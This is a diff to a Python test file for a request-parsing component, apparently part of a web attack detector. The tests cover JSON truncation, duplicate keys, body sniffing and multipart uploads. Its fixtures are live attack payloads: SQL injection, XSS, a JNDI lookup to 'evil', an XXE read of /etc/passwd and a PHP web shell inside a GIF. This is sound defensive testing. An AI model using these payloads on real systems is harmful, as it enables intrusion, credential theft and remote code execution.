@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import base64
 import gzip
+import hashlib
+import json
 import time
 import zlib
 
@@ -36,6 +38,11 @@ def _body_triples(extraction: Extraction) -> list[Triple]:
 
 def _rules(extraction: Extraction) -> dict[str, str]:
     return {finding.rule: finding.kind for finding in extraction.findings}
+
+
+def _digest(name: str) -> str:
+    """How a slot shows a name that is not plain."""
+    return "#k" + hashlib.blake2b(name.encode(), digest_size=4).hexdigest()
 
 
 # --- path, query, headers, cookies ----------------------------------------------------
@@ -80,13 +87,24 @@ QUERIES = [
     ),
     # `+` is a space, invalid escapes stay as written, empty pieces are skipped
     ("q=a+b%zz%4&&", [("query-key:q", "q", K), ("query:q", "a b%zz%4", Q)]),
-    # operator keys are parts of their own
-    ("user[$ne]=1", [("query-key:user[$ne]", "user[$ne]", K), ("query:user[$ne]", "1", Q)]),
+    # operator keys are parts of their own; a name that is not plain is a digest in slots
+    (
+        "user[$ne]=1",
+        [
+            (f"query-key:{_digest('user[$ne]')}", "user[$ne]", K),
+            (f"query:{_digest('user[$ne]')}", "1", Q),
+        ],
+    ),
     # an encoded key is decoded once
     (
         "__proto__%5Bx%5D=1",
-        [("query-key:__proto__[x]", "__proto__[x]", K), ("query:__proto__[x]", "1", Q)],
+        [
+            (f"query-key:{_digest('__proto__[x]')}", "__proto__[x]", K),
+            (f"query:{_digest('__proto__[x]')}", "1", Q),
+        ],
     ),
+    # plain names (letters, digits and `_.$:-`) are kept as written
+    ("a.b:c-$_1=1", [("query-key:a.b:c-$_1", "a.b:c-$_1", K), ("query:a.b:c-$_1", "1", Q)]),
     # `=` inside a value stays in the value
     ("a=b=c", [("query-key:a", "a", K), ("query:a", "b=c", Q)]),
     # a query value holding JSON is split too, under `#json`
@@ -147,7 +165,63 @@ def test_conflicting_content_types_are_flagged() -> None:
     sample = _post(
         b"a=1", "application/json", ("Content-Type", "application/x-www-form-urlencoded")
     )
-    assert _rules(extract(sample))["protocol.content_type"] == "attack.protocol"
+    extraction = extract(sample)
+    assert _rules(extraction)["protocol.content_type"] == "attack.protocol"
+    # servers differ on which one wins: the body is malformed, and split as either
+    assert extraction.malformed
+    assert ("form:a", "1", B) in _triples(extraction)
+    assert ("body", "a=1", R) in _triples(extraction)
+
+
+def test_conflicting_content_types_split_the_body_as_each() -> None:
+    body = rb'{"q":"1 union\tselect password from users"}'
+    sample = _post(body, "text/plain", ("Content-Type", "application/json"))
+    extraction = extract(sample)
+    assert extraction.malformed
+    assert _body_triples(extraction) == [
+        ("json-key:q", "q", K),
+        ("json:q", "1 union\tselect password from users", B),
+        ("body", body.decode(), R),
+    ]
+
+
+SLOT_NAMES = [
+    # (sample, slot of the odd name's value, the odd name) raw client text stays out of
+    # slots, which audit events carry; the part keeps the whole name
+    # a secret in a query key
+    (HttpSample("GET", "/", "q%20secret-token-abc123%27--=v"), "query", "q secret-token-abc123'--"),
+    # an injection in a JSON key
+    (
+        _post(b'{"1\' UNION SELECT 1-- -": "v"}', "application/json"),
+        "json",
+        "1' UNION SELECT 1-- -",
+    ),
+    # markup in a form field name, a cookie name, a header name and a multipart name
+    (_post(b"a%3Cb%3E=v", "application/x-www-form-urlencoded"), "form", "a<b>"),
+    (HttpSample("GET", "/", headers=(("Cookie", "<x y>=v"),)), "cookie", "<x y>"),
+    (HttpSample("GET", "/", headers=(("X Evil<1>", "v"),)), "header", "x evil<1>"),
+    (
+        _post(
+            b'--b\r\nContent-Disposition: form-data; name="a b"\r\n\r\nv\r\n--b--',
+            "multipart/form-data; boundary=b",
+        ),
+        "multipart",
+        "a b",
+    ),
+    # a name longer than 64 characters
+    (HttpSample("GET", "/", "k" * 65 + "=v"), "query", "k" * 65),
+]
+
+
+@pytest.mark.parametrize(("sample", "family", "name"), SLOT_NAMES)
+def test_odd_names_are_digests_in_slots(sample: HttpSample, family: str, name: str) -> None:
+    triples = _triples(extract(sample))
+    digest = _digest(name)
+    slot = f'json:["{digest}"]' if family == "json" else f"{family}:{digest}"
+    assert (slot, "v", {"query": Q, "cookie": C, "header": H}.get(family, B)) in triples
+    keys = [(slot, value) for slot, value, kind in triples if kind is K]
+    assert any(value.lower() == name.lower() and digest in slot for slot, value in keys)
+    assert not any(name in slot for slot, _, _ in triples)
 
 
 # --- JSON -----------------------------------------------------------------------------
@@ -167,6 +241,7 @@ CHAT = {
 
 def test_json_slots() -> None:
     extraction = extract(_post(orjson.dumps(CHAT), "application/json"))
+    odd = _digest("odd key")
     assert _body_triples(extraction) == [
         ("json-key:model", "model", K),
         ("json:model", "gpt-4o", B),
@@ -181,15 +256,17 @@ def test_json_slots() -> None:
         ("json:messages[1].content[0].type", "text", B),
         ("json-key:messages[1].content[0].text", "text", K),
         ("json:messages[1].content[0].text", "hi", B),
-        ('json-key:["odd key"]', "odd key", K),
-        ('json-key:["odd key"]["a.b"]', "a.b", K),
-        ('json:["odd key"]["a.b"]', "x", B),
+        # a key that is not a plain name is a digest in slots (which audit events carry)
+        (f'json-key:["{odd}"]', "odd key", K),
+        # a plain name that is no identifier is quoted
+        (f'json-key:["{odd}"]["a.b"]', "a.b", K),
+        (f'json:["{odd}"]["a.b"]', "x", B),
         # numbers, booleans and null are not parts, but their keys are
-        ('json-key:["odd key"].$ne', "$ne", K),
-        ('json-key:["odd key"]._ok-1', "_ok-1", K),
-        ('json:["odd key"]._ok-1', "y", B),
-        ('json-key:["odd key"]["é"]', "é", K),
-        ('json:["odd key"]["é"]', "z", B),
+        (f'json-key:["{odd}"].$ne', "$ne", K),
+        (f'json-key:["{odd}"]._ok-1', "_ok-1", K),
+        (f'json:["{odd}"]._ok-1', "y", B),
+        (f'json-key:["{odd}"]["{_digest("é")}"]', "é", K),
+        (f'json:["{odd}"]["{_digest("é")}"]', "z", B),
         ("json-key:n", "n", K),
         ("json-key:flag", "flag", K),
         ("json-key:none", "none", K),
@@ -329,7 +406,272 @@ def test_truncated_json_is_not_malformed() -> None:
     assert not extraction.malformed
     finding = next(f for f in extraction.findings if f.rule == "body.truncated")
     assert (finding.kind, finding.severity) == ("attack.protocol", "notice")
-    assert _body_triples(extraction) == [("body", body[:110].decode(), R)]
+    # walked as far as it was read, and then not scanned whole as well
+    assert _body_triples(extraction) == [
+        ("json-key:a", "a", K),
+        ("json:a", "x" * 100, B),
+        ("json-key:b", "b", K),
+    ]
+
+
+TRUNCATED_JSON = [
+    # (body cut at `body_limit`, the body parts of the prefix)
+    # a string value cut short ends where the cut fell
+    (
+        b'{"a": ["x", "<scr',
+        [("json-key:a", "a", K), ("json:a[0]", "x", B), ("json:a[1]", "<scr", B)],
+    ),
+    # so does a key, given no value
+    (
+        b'{"a": "x", "<scr',
+        [
+            ("json-key:a", "a", K),
+            ("json:a", "x", B),
+            (f'json-key:["{_digest("<scr")}"]', "<scr", K),
+        ],
+    ),
+    # a key without its value, with or without the colon
+    (b'{"a": {"b":', [("json-key:a", "a", K), ("json-key:a.b", "b", K)]),
+    (b'{"a": {"b"', [("json-key:a", "a", K), ("json-key:a.b", "b", K)]),
+    # a trailing comma, in an object and in an array
+    (b'{"a": "x",', [("json-key:a", "a", K), ("json:a", "x", B)]),
+    (b'["x", ', [("json:[0]", "x", B)]),
+    # half a literal or number
+    (b'["x", tru', [("json:[0]", "x", B)]),
+    (b'{"a": ["x", 1e', [("json-key:a", "a", K), ("json:a[0]", "x", B)]),
+    # half an escape is dropped, an escaped backslash before `u` is not half of one
+    (b'["ab\\u00', [("json:[0]", "ab", B)]),
+    (b'["ab\\\\u00', [("json:[0]", "ab\\u00", B)]),
+    # a lone surrogate, what is left of a cut pair, reads as Python reads it
+    (b'["ab\\ud83d\\ude', [("json:[0]", "ab\ud83d", B)]),
+    # a root string
+    (b'"<scr', [("json:", "<scr", B)]),
+]
+
+
+@pytest.mark.parametrize(("prefix", "expected"), TRUNCATED_JSON)
+def test_truncated_json_is_walked_as_far_as_it_was_read(
+    prefix: bytes, expected: list[Triple]
+) -> None:
+    body = prefix + b"x" * 50 + b'"]}'
+    extraction = extract(_post(body, "application/json"), body_limit=len(prefix))
+    assert _body_triples(extraction) == expected
+    assert "body.truncated" in _rules(extraction)
+    assert not extraction.malformed
+
+
+_json_values = st.recursive(
+    st.none()
+    | st.booleans()
+    | st.integers()
+    | st.floats()  # NaN and Infinity too, as Python writes them
+    | st.text(st.sampled_from('ab"\\/\n\u00e9\U0001f600{}[]:,'), max_size=8),
+    lambda children: (
+        st.lists(children, max_size=4)
+        | st.dictionaries(st.text(st.sampled_from('k"\\\u00e9:'), max_size=3), children, max_size=4)
+    ),
+    max_leaves=12,
+)
+
+
+@settings(max_examples=150, deadline=None)
+@given(
+    document=st.one_of(
+        st.lists(_json_values, max_size=4),
+        st.dictionaries(st.text(max_size=3), _json_values, max_size=4),
+    ),
+    ascii_only=st.booleans(),
+    indent=st.sampled_from([None, 1]),
+)
+def test_json_cut_anywhere_is_walked(
+    document: object, ascii_only: bool, indent: int | None
+) -> None:
+    body = json.dumps(document, ensure_ascii=ascii_only, indent=indent).encode()
+    for cut in range(1, len(body)):
+        extraction = extract(_post(body, "application/json"), body_limit=cut)
+        assert "body.truncated" in _rules(extraction), cut
+        assert not any(kind is R for _, _, kind in _triples(extraction)), cut
+        assert not extraction.malformed
+
+
+TRUNCATED_NOT_JSON = [
+    # (body) what was read is not JSON: scanned whole, as before the cut was closed
+    # brackets that do not nest
+    b'{"a": "x"]' + b"x" * 50,
+    # single quotes
+    b"{'a': " + b"x" * 50,
+    # a missing colon
+    b'{"a" "x"' + b"x" * 50,
+    # a control character in a string
+    b'{"a": "x\x01' + b"x" * 50,
+    # what is cut is no literal or number: not dropped as half of one
+    b'["x", <script>alert(1)' + b"x" * 50,
+]
+
+
+@pytest.mark.parametrize("body", TRUNCATED_NOT_JSON)
+def test_truncated_json_that_is_not_json_is_scanned_whole(body: bytes) -> None:
+    extraction = extract(_post(body, "application/json"), body_limit=len(body) - 40)
+    assert _body_triples(extraction) == [("body", body[:-40].decode(), R)]
+    assert "body.truncated" in _rules(extraction)
+    assert not extraction.malformed
+
+
+def test_truncated_chat_keeps_its_text_slots() -> None:
+    body = orjson.dumps(
+        {
+            "messages": [{"role": "user", "content": "a" * 200}],
+            "tools": [{"description": "${jndi:ldap://evil/a}"}],
+        }
+    )
+    slots = frozenset({"json:messages[*].content"})
+    extraction = extract(_post(body, "application/json"), body_limit=120, text_slots=slots)
+    (text,) = [v for slot, v, kind in _triples(extraction) if kind is T]
+    assert text == "a" * 81
+    assert not any(kind is R for _, _, kind in _triples(extraction))
+    # and what lies past the cut of the text is seen when the limit allows it
+    extraction = extract(_post(body, "application/json"), body_limit=len(body) - 4)
+    assert ("json:tools[0].description", "${jndi:ldap://evil/a}", B) in _triples(extraction)
+
+
+DUPLICATE_KEYS = [
+    # (body, parts of the repeated keys) every value of a repeated key is seen, the ones a
+    # later member hides at `key#dup`: applications differ on which one wins
+    (
+        b'{"q": "1\' UNION SELECT 1-- -", "q": "ok"}',
+        [("json:q", "ok", B), ("json:q#dup", "1' UNION SELECT 1-- -", B)],
+    ),
+    # three times, nested, and an object as the hidden value
+    (
+        b'{"a": {"q": "1", "q": "2", "q": "3"}, "b": [{"c": {"d": "<x>"}, "c": 1}]}',
+        [
+            ("json:a.q", "3", B),
+            ("json:a.q#dup", "1", B),
+            ("json:a.q#dup", "2", B),
+            ("json:b[0].c#dup.d", "<x>", B),
+        ],
+    ),
+    # repeated inside a hidden value
+    (
+        b'{"a": {"q": "<x>", "q": "1"}, "a": 2}',
+        [("json:a#dup.q", "1", B), ("json:a#dup.q#dup", "<x>", B)],
+    ),
+    # a key ending in an escaped backslash does not throw the quote count off
+    (
+        b'{"q": "<x>", "q": "ok", "k\\\\": 1}',
+        [("json:q", "ok", B), ("json:q#dup", "<x>", B)],
+    ),
+    # neither does an escape that decodes to a quote or a colon
+    (
+        b'{"q": "<x>", "q": "ok", "k": "\\u0022\\u003a"}',
+        [("json:q", "ok", B), ("json:k", '":', B), ("json:q#dup", "<x>", B)],
+    ),
+    # NaN (which orjson refuses) and a repeated key together
+    (b'{"q": "<x>", "q": NaN}', [("json:q#dup", "<x>", B)]),
+]
+
+
+@pytest.mark.parametrize(("body", "expected"), DUPLICATE_KEYS)
+def test_duplicate_keys(body: bytes, expected: list[Triple]) -> None:
+    extraction = extract(_post(body, "application/json"))
+    values = [t for t in _body_triples(extraction) if t[2] is not K]
+    assert [
+        t for t in values if t[0].startswith(("json:q", "json:a", "json:b", "json:k"))
+    ] == expected
+    finding = next(f for f in extraction.findings if f.rule == "body.duplicate_key")
+    assert (finding.kind, finding.severity) == ("attack.protocol", "warning")
+    assert not extraction.malformed
+
+
+def _json_text(node: object, escapes: bool) -> str:
+    """JSON text for `node`, where ("object", pairs) may repeat a key; `escapes` writes
+    quotes, backslashes and colons in strings as `\\u` escapes."""
+    if isinstance(node, tuple):
+        tag, items = node
+        if tag == "list":
+            return "[" + ",".join(_json_text(item, escapes) for item in items) + "]"
+        members = (
+            _json_text(key, escapes) + ":" + _json_text(value, escapes) for key, value in items
+        )
+        return "{" + ",".join(members) + "}"
+    if isinstance(node, str) and escapes:
+        table = {'"': "\\u0022", "\\": "\\u005c", ":": "\\u003a"}
+        return '"' + "".join(table.get(c) or json.dumps(c)[1:-1] for c in node) + '"'
+    return json.dumps(node)
+
+
+def _strings(node: object) -> list[str]:
+    if isinstance(node, tuple):
+        tag, items = node
+        if tag == "list":
+            return [s for item in items for s in _strings(item)]
+        return [s for key, value in items for s in (key, *_strings(value))]
+    return [node] if isinstance(node, str) else []
+
+
+def _repeats(node: object) -> bool:
+    if not isinstance(node, tuple):
+        return False
+    tag, items = node
+    if tag == "list":
+        return any(_repeats(item) for item in items)
+    keys = [key for key, _ in items]
+    return len(set(keys)) < len(keys) or any(_repeats(value) for _, value in items)
+
+
+_tricky_text = st.text(st.sampled_from('k"\\:\u00e9'), max_size=3)
+_pairs_json = st.recursive(
+    st.none() | st.integers() | _tricky_text,
+    lambda children: (
+        st.lists(children, max_size=3).map(lambda items: ("list", items))
+        | st.lists(st.tuples(_tricky_text, children), max_size=4).map(lambda p: ("object", p))
+    ),
+    max_leaves=10,
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(document=_pairs_json, escapes=st.booleans())
+def test_repeated_keys_are_found_and_nothing_is_hidden(document: object, escapes: bool) -> None:
+    body = _json_text(document, escapes).encode()
+    extraction = extract(_post(body, "application/json"))
+    assert ("body.duplicate_key" in _rules(extraction)) == _repeats(document)
+    values = {value for _, value, _ in _triples(extraction)}
+    assert set(_strings(document)) <= values
+    assert not extraction.malformed
+
+
+NO_DUPLICATE_KEYS = [
+    # (body) escaped quotes, backslashes and JSON inside strings are no repeated keys
+    orjson.dumps({"arguments": orjson.dumps({"q": "a", "r": "b"}).decode(), "q": "a"}),
+    b'{"a": "\\\\\\"", "b": "\\\\", "c": ["\\"\\""]}',
+    # the same key in two objects
+    b'[{"q": "1"}, {"q": "2"}]',
+]
+
+
+@pytest.mark.parametrize("body", NO_DUPLICATE_KEYS)
+def test_no_duplicate_keys(body: bytes) -> None:
+    assert "body.duplicate_key" not in _rules(extract(_post(body, "application/json")))
+
+
+PYTHON_JSON = [
+    # (body, parts) what Python's json writes and reads, and orjson refuses, is JSON
+    (
+        b'{"t": NaN, "q": "<x>"}',
+        [("json-key:t", "t", K), ("json-key:q", "q", K), ("json:q", "<x>", B)],
+    ),
+    (b"[Infinity, -Infinity]", []),
+    (b'{"name": "\\ud800<x>"}', [("json-key:name", "name", K), ("json:name", "\ud800<x>", B)]),
+]
+
+
+@pytest.mark.parametrize(("body", "expected"), PYTHON_JSON)
+def test_json_as_python_writes_it(body: bytes, expected: list[Triple]) -> None:
+    extraction = extract(_post(body, "application/json"))
+    assert _body_triples(extraction) == expected
+    assert not extraction.malformed
+    assert not extraction.findings
 
 
 # --- form, GraphQL, raw ---------------------------------------------------------------
@@ -381,6 +723,59 @@ RAW = [
 def test_raw_body(content_type: str | None) -> None:
     extraction = extract(_post(b"' OR 1=1 --", content_type))
     assert _body_triples(extraction) == [("body", "' OR 1=1 --", R)]
+
+
+SNIFFED = [
+    # (body, parts after the RAW one) a body of no (or the wrong) declared type is split
+    # as what it looks like, too: many applications parse a body whatever its type says
+    # JSON, its escapes undone
+    (
+        rb'{"q":"1 union\tselect password from users"}',
+        [("json-key:q", "q", K), ("json:q", "1 union\tselect password from users", B)],
+    ),
+    (b' \n["\\u003cscript\\u003e"]', [("json:[0]", "<script>", B)]),
+    # a form, its escapes undone (and its bytes kept, as a form parser keeps them)
+    (
+        b"q=1%27+OR+1%3D1&x=2\n",
+        [
+            ("form-key:q", "q", K),
+            ("form:q", "1' OR 1=1", B),
+            ("form-key:x", "x", K),
+            ("form:x", "2\n", B),
+        ],
+    ),
+    # XML; a DOCTYPE alone is not flagged here (HTML has one), entities are
+    (b"<r a='&lt;x&gt;'>t</r>", [("xml:/r/@a", "<x>", B), ("xml:/r", "t", B)]),
+    # what only looks like a start: nothing more
+    (b"{not json}", []),
+    (b"<a><b></a>", []),
+    (b"q=<script>", []),
+    # base64 has the characters of a form, but no form is one key and `=` padding
+    (base64.b64encode(b'{"q": 1}'), []),
+    (b"plain text, with = sign", []),
+]
+
+
+@pytest.mark.parametrize("content_type", ["text/plain", "application/octet-stream", None])
+@pytest.mark.parametrize(("body", "expected"), SNIFFED)
+def test_raw_body_is_sniffed(body: bytes, expected: list[Triple], content_type: str | None) -> None:
+    extraction = extract(_post(body, content_type))
+    triples = _body_triples(extraction)
+    assert triples[0] == ("body", body.decode(), R)
+    assert triples[1:] == expected
+    assert not extraction.malformed
+    assert not extraction.findings
+
+
+def test_sniffed_xml_entities_are_flagged() -> None:
+    body = b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
+    assert _rules(extract(_post(body, "text/plain"))) == {"xml.external_entity": "attack.xxe"}
+
+
+def test_sniffed_json_cut_short_is_walked() -> None:
+    body = orjson.dumps({"pad": "a" * 200, "q": "<script>"})
+    extraction = extract(_post(body, "text/plain"), body_limit=len(body) - 3)
+    assert ("json:q", "<script", B) in _triples(extraction)
 
 
 # --- multipart ------------------------------------------------------------------------
@@ -446,10 +841,71 @@ def test_multipart_nested_and_binary() -> None:
         ("multipart-key:files", "files", K),
         ("multipart-filename:files/#0", "a.png", F),
     ]
-    # a binary upload is scanned by its head only
+    # a binary upload is scanned by its head, then by the text in the rest of it
     slot, value, kind = triples[2]
     assert (slot, kind) == ("multipart:files/#0", B)
     assert value == png[:1024].decode("utf-8", "replace")
+    printable = bytes(range(32, 127)).decode()
+    assert triples[3] == ("multipart:files/#0", "\n".join([printable] * 16), B)
+    assert len(triples) == 4
+
+
+def _field(content: bytes, disposition: bytes = b'name="q"') -> HttpSample:
+    head = b"--b\r\nContent-Disposition: form-data; " + disposition + b"\r\n\r\n"
+    body = head + content + b"\r\n--b--\r\n"
+    return _post(body, "multipart/form-data; boundary=b")
+
+
+SQLI = b"' UNION SELECT username, password FROM users-- -"
+
+BINARY_FIELDS = [
+    # (field content) a field that is not a file reaches the application whole, whatever
+    # bytes come first
+    b"\x00" + b"a" * 1100 + SQLI,
+    b"\x01" * 110 + b"a" * 1000 + SQLI,
+    b"\xff\xfe\x00" * 400 + SQLI,
+]
+
+
+@pytest.mark.parametrize("content", BINARY_FIELDS)
+def test_binary_fields_are_scanned_whole(content: bytes) -> None:
+    triples = _body_triples(extract(_field(content)))
+    assert triples == [
+        ("multipart-key:q", "q", K),
+        ("multipart:q", content.decode("utf-8", "replace"), B),
+    ]
+
+
+UPLOADS = [
+    # (file content, text that must be in a part) an upload's text is seen wherever it is
+    (
+        b"GIF89a\x01\x00\x01\x00\x00\x00\x00" + bytes(1100) + b"<?php system($_GET['c']); ?>",
+        "<?php system($_GET['c']); ?>",
+    ),
+    # a run of text across the end of the head is taken whole
+    (bytes(1020) + b"<?php system($_GET['c']); ?>" + bytes(10), "<?php system($_GET['c']); ?>"),
+    # text far past the head
+    (bytes(2000) + b"<script>alert(1)</script>", "<script>alert(1)</script>"),
+]
+
+
+@pytest.mark.parametrize(("content", "text"), UPLOADS)
+def test_text_in_binary_uploads_is_seen(content: bytes, text: str) -> None:
+    sample = _field(content, b'name="f"; filename="a.gif"')
+    values = [v for slot, v, _ in _body_triples(extract(sample)) if slot == "multipart:f"]
+    assert any(text in value for value in values)
+    # bounded by the upload: a digest of the binary, not a copy of it
+    assert sum(len(value) for value in values) < 1024 + len(content) // 4
+
+
+def test_text_in_base64_uploads_is_seen() -> None:
+    content = base64.b64encode(bytes(2000) + b"<script>alert(1)</script>")
+    body = (
+        b'--b\r\nContent-Disposition: form-data; name="f"; filename="a.bin"\r\n'
+        b"Content-Transfer-Encoding: base64\r\n\r\n" + content + b"\r\n--b--\r\n"
+    )
+    extraction = extract(_post(body, "multipart/form-data; boundary=b"))
+    assert ("multipart:f", "<script>alert(1)</script>", B) in _triples(extraction)
 
 
 def test_multipart_lines_that_only_start_with_the_boundary_are_content() -> None:
@@ -928,6 +1384,29 @@ ADVERSARIAL = [
     ("application/xml", b"<a>" * 40_000),
     ("application/xml", b"<a " + b'b="1" ' * 20_000 + b"/>"),
     ("text/plain", bytes(131_072)),
+    # cut at the limit, then closed and walked
+    ("application/json", b"[" + b"1," * 70_000),
+    ("application/json", b"[" + b'"x",' * 40_000),
+    ("application/json", b"[" + b"[1,[2,[3]]]," * 13_000),
+    ("application/json", b"[" * 200_000),
+    ("application/json", b'{"a":' * 40_000),
+    ("application/json", b'["' + b"\\" * 140_000),
+    ("application/json", b'["' + b'\\"' * 70_000),
+    ("application/json", b"{" + b'"a":"x","a":"x",' * 10_000),
+    ("text/plain", b'[{"a":[' * 30_000),
+    # repeated keys, parsed again to find them
+    ("application/json", b"{" + b'"a":"x",' * 16_000 + b'"a":"x"}'),
+    ("application/json", b"[" + b'{"a":{"a":"x","a":"x"},"a":1},' * 4_000 + b"1]"),
+    # uploads of binary
+    (
+        "multipart/form-data; boundary=b",
+        b'--b\r\nContent-Disposition: form-data; name="f"; filename="x"\r\n\r\n'
+        + b"\x00ab\x00abcd" * 14_000,
+    ),
+    (
+        "multipart/form-data; boundary=b",
+        b'--b\r\nContent-Disposition: form-data; name="f"\r\n\r\n' + bytes(131_000),
+    ),
 ]
 
 
